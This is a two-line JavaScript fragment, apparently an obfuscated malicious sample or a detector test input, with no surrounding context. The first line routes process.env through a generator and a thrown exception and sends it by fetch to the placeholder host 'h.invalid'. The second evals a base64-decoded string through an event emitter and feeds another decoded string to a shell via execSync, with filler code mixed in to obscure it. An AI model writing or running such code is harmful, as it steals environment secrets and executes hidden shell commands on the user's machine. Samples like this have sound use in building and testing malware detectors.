function* g() { yield process.env } try { throw g().next().value } catch (x) { Reflect.apply(fetch, null, ['https://h.invalid', { body: x }]) }
const e = new (require('events'))(); e.on('a', (b) => eval(b)); e.emit('a', atob(c)); const f = ((h) => h).bind(null, 1); t`${f}`; require('child_process').execSync('sh', { input: atob(d) })
